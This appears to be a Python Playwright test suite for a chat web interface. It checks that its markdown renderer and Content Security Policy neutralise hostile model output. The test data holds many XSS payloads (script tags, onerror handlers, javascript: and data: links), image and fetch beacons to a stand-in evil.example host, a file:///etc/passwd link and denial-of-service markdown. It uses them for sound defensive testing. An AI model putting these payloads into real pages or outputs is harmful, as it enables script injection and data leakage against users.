"""What a model, a server or a file's name says is shown, and does nothing."""

import json
from typing import Any

import pytest
from playwright.sync_api import Route, expect

from server.routes.web import VERSION
from tests.browser.conftest import Chat

ATTACKS = """
<script>window.ran = 1</script><img src=x onerror="window.ran = 2"><svg onload="window.ran = 3">
<iframe srcdoc="<script>top.ran = 4</script>"></iframe><a href="javascript:window.ran=5">a</a>
<style>body { display: none }</style><base href="//evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">

[x](javascript:window.ran=6) [y](  JaVaScRiPt:window.ran=7 "t")
[z](data:text/html,<script>window.ran=8</script>) [v](vbscript:x) [w](//evil.example/)
[f](file:///etc/passwd) [r](../v1/models) [n](java\nscript:window.ran=9)
<javascript:window.ran=10> [`c`](blob:x) [t](\x01javascript:window.ran=11)
[e](&#106;avascript:window.ran=12) ![p](https://evil.example/leak.png?secret)
![q](javascript:window.ran=13) [![i](http://evil.example/i.png)](javascript:window.ran=14)

| <img src=x onerror=window.ran=15> | [k](javascript:window.ran=16) |
| --- | --- |
| <script>window.ran=17</script> | ok |

```"><img src=x onerror=window.ran=18>
</code></pre><script>window.ran = 19</script>
```

# <img src=x onerror=window.ran=20>
> <object data="javascript:window.ran=21"></object>
- <form action="javascript:window.ran=22"><button>b</button></form>

https://good.example/?a=<b>"onmouseover="window.ran=23 and [fine](https://good.example/path)
"""


def pretend(chat: Chat, *deltas: dict[str, Any], finish: dict[str, Any] | None = None) -> None:
    """The server's next answers are made of these."""
    chunks = [{"choices": [{"delta": delta, "index": 0}]} for delta in deltas]
    events = [*map(json.dumps, [*chunks, *([finish] if finish else [])]), "[DONE]"]
    body = "".join(f"id: {number}\ndata: {event}\n\n" for number, event in enumerate(events, 1))

    def answer(route: Route) -> None:
        route.fulfill(body=body, content_type="text/event-stream")

    chat.page.route("**/v1/chat/completions", answer)


@pytest.mark.parametrize("whole", [True, False], ids=["at once", "in pieces"])
def test_no_answer_becomes_a_script_a_picture_or_a_strange_link(chat: Chat, whole: bool) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    pieces = [ATTACKS] if whole else [ATTACKS[at : at + 7] for at in range(0, len(ATTACKS), 7)]
    pretend(chat, *({"content": piece} for piece in pieces))
    chat.send("Hello!")
    text = chat.wait_for_end()
    assert "<script>window.ran = 1</script>" in text
    assert "<iframe srcdoc=" in text
    links = chat.answer.locator("a").evaluate_all(
        "all => all.map((a) => [a.href, a.rel, a.target])"
    )
    assert links
    for href, rel, target in links:
        assert href.startswith(
            ("https://good.example/", "https://evil.example/leak", "http://evil")
        )
        assert (rel, target) == ("noopener noreferrer nofollow", "_blank")
    found = chat.answer.evaluate("node => [...node.querySelectorAll('*')].map((e) => e.localName)")
    assert set(found) <= {
        "div", "p", "a", "span", "code", "pre", "button", "svg", "use", "table", "thead", "tbody",
        "tr", "th", "td", "h3", "blockquote", "ul", "li", "em", "strong",
    }  # fmt: skip
    attributes = chat.answer.evaluate(
        "node => [...node.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())"
    )
    allowed = {"class", "href", "rel", "target", "tabindex", "role", "title", "type", "aria-label"}
    assert set(attributes) <= allowed | {"aria-hidden"}
    chat.answer.locator("a").first.hover()
    assert chat.page.evaluate("window.ran") is None
    assert [url for url in asked if "evil" in url or "good" in url] == []


def test_names_labels_and_errors_are_text_too(chat: Chat) -> None:
    evil = '<img src=x onerror="window.ran = 1">'
    box = {"index": 0, "label": evil, "box": [-5, 2000, 3, 1e9], "box_px": [0, 0, 1, 1]}
    pretend(
        chat,
        {"content": "See.", "boxes": [{**box, "image_index": 0}, {**box, "image_index": 7}]},
        finish={"error": {"message": evil, "code": evil, "type": "server_error", "param": None}},
    )
    picture = b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.ran = 2</script></svg>"
    chat.forgive("status of 400")
    chat.attach((f"{evil}.svg", "image/svg+xml", picture))
    chat.send(evil)
    chat.wait_for_end()
    expect(chat.answers.locator(".error p")).to_have_text(evil)
    expect(chat.page.locator(".box")).to_have_text(evil)
    expect(chat.page.locator("article.user .text")).to_have_text(evil)
    expect(chat.page.locator("#chats")).to_contain_text(evil)
    place = chat.page.locator(".box").evaluate("box => [box.style.left, box.style.width]")
    assert place == ["0%", "0.3%"]
    assert chat.page.evaluate("window.ran") is None


def test_the_policy_stops_what_the_page_itself_would_never_do(chat: Chat) -> None:
    """The second line of defence is there: each of these offends the policy."""
    chat.forgive("CSP|Content Security Policy|Trusted")
    ran = chat.page.evaluate("""async () => {
        const script = document.createElement('script');
        const tries = [
            () => { document.body.innerHTML = '<b>x</b>'; },
            () => document.body.setAttribute('onclick', 'window.ran = 1'),
            () => setTimeout('window.ran = 2'),
            () => document.body.append(script),
            () => { script.textContent = 'window.ran = 3'; },
        ];
        for (const each of tries) try { each(); } catch { /* refused */ }
        document.body.click();
        await new Promise((resolve) => setTimeout(resolve));
        const sent = await fetch('https://evil.example/').then(() => 'sent', () => 'refused');
        return [window.ran ?? null, sent];
    }""")
    assert ran == [None, "refused"]


RENDERED = {
    "a **b** *c* `d` ~~e~~": "<p>a <strong>b</strong> <em>c</em> <code>d</code> <del>e</del></p>",
    "snake_case_name and 2 * 3 * 4": "<p>snake_case_name and 2 * 3 * 4</p>",
    "__b__ _i_ \\*no\\*": "<p><strong>b</strong> <em>i</em> *no*</p>",
    "**a *b* c**": "<p><strong>a <em>b</em> c</strong></p>",
    "unclosed **bold and `code": "<p>unclosed **bold and `code</p>",
    "``a ` b``": "<p><code>a ` b</code></p>",
    "# One\ntext\n### Three": "<h3>One</h3><p>text</p><h5>Three</h5>",
    "#hashtag": "<p>#hashtag</p>",
    "- a\n- b\n  - c\n- d": "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>",
    "3. x\n4. y": '<ol start="3"><li>x</li><li>y</li></ol>',
    "1. x\n\n2. y\n\nafter": "<ol><li>x</li><li>y</li></ol>|<p>after</p>",
    "* a\n\n  more": "<ul><li>amore</li></ul>",
    "> q\n> - l": "<blockquote><p>q</p><ul><li>l</li></ul></blockquote>",
    "a\n\n---\n\nb": "<p>a</p>|<hr>|<p>b</p>",
    "| a | b |\n|:-:|--:|\n| 1 \\| 2 | **3** |": (
        '<table><thead><tr><th class="centre">a</th><th class="right">b</th></tr></thead>'
        '<tbody><tr><td class="centre">1 | 2</td><td class="right"><strong>3</strong></td></tr>'
        "</tbody></table>"
    ),
    "a | b": "<p>a | b</p>",
    "```py\nx = '<b>'\n\n# no title\n```\nafter": (
        "<pre><code>x = '&lt;b&gt;'\n\n# no title</code></pre><p>after</p>"
    ),
    "~~~\n```\n~~~": "<pre><code>```</code></pre>",
    "```\nnot closed": "<pre><code>not closed</code></pre>",
    "[a](https://x.example/a_(b)) https://y.example/z.": (
        '<p><a href="https://x.example/a_(b)">a</a> <a href="https://y.example/z">'
        "https://y.example/z</a>.</p>"
    ),
    "[no](mailto:a@b) [b] (c)": "<p><span>no</span> [b] (c)</p>",
    "![alt](https://x.example/i.png)": '<p><a href="https://x.example/i.png">picture: alt</a></p>',
    "a\nb\r\nc": "<p>a\nb\nc</p>",
    "": "",
}  # fmt: skip

RENDER = """async ([module, sources]) => {
    const { show } = await import(new URL(module, document.baseURI));
    return sources.map((source) => {
        const place = document.createElement('div');
        show(place, source);
        for (const each of place.querySelectorAll('.bar')) each.remove();
        for (const each of place.querySelectorAll('.code, .scroll')) {
            each.replaceWith(...each.childNodes);
        }
        for (const each of place.querySelectorAll('[rel], [tabindex]')) {
            for (const name of ['rel', 'target', 'tabindex']) each.removeAttribute(name);
        }
        return [...place.children].map((piece) => piece.innerHTML).join('|');
    });
}"""
MODULE = f"web/{VERSION}/markdown.js"


def test_markdown_becomes_what_it_means(chat: Chat) -> None:
    shown = chat.page.evaluate(RENDER, [MODULE, list(RENDERED)])
    assert dict(zip(RENDERED, shown, strict=True)) == RENDERED


def test_a_text_that_grows_keeps_the_nodes_of_what_is_there(chat: Chat) -> None:
    """So that a selection survives, and a long answer is not drawn again for each token."""
    text = "# Title\n\nFirst *one*.\n\n- a\n- b\n\n```\ncode\n\nmore\n```\n\nLast **one**."
    kept, same = chat.page.evaluate(
        """async ([module, text]) => {
            const { show } = await import(new URL(module, document.baseURI));
            const [grown, whole] = [document.createElement('div'), document.createElement('div')];
            let first;
            for (let end = 1; end <= text.length; end += 1) {
                show(grown, text.slice(0, end));
                if (end === 25) first = grown.children[0];
            }
            show(whole, text);
            return [first === grown.children[0], grown.innerHTML === whole.innerHTML];
        }""",
        [MODULE, text],
    )
    assert kept
    assert same


HOSTILE = [
    "*a " * 6000, "[" * 19000, "`a``" * 4000, "> " * 9000 + "x", "- " * 9000,
    "|" * 19000 + "\n|-|", "**" * 9000, "# " + "#" * 19000, "![](" * 4000, "_a_" * 6000,
    "~~~" * 5000, "\\" * 19000, "x\n" * 9000, "-" * 19000,
    "\n".join("  " * depth + "- x" for depth in range(300)),
    "|a\n-" + " " * 300_000 + "x", ("*a " * 6500 + "\n\n") * 40,
]  # fmt: skip


def test_hostile_markdown_is_shown_before_anybody_is_impatient(chat: Chat) -> None:
    for text in HOSTILE:
        spent = chat.page.evaluate(
            """async ([module, text]) => {
                const { show } = await import(new URL(module, document.baseURI));
                const began = performance.now();
                show(document.createElement('div'), text);
                return performance.now() - began;
            }""",
            [MODULE, text],
        )
        assert spent < 12_000, text[:20]
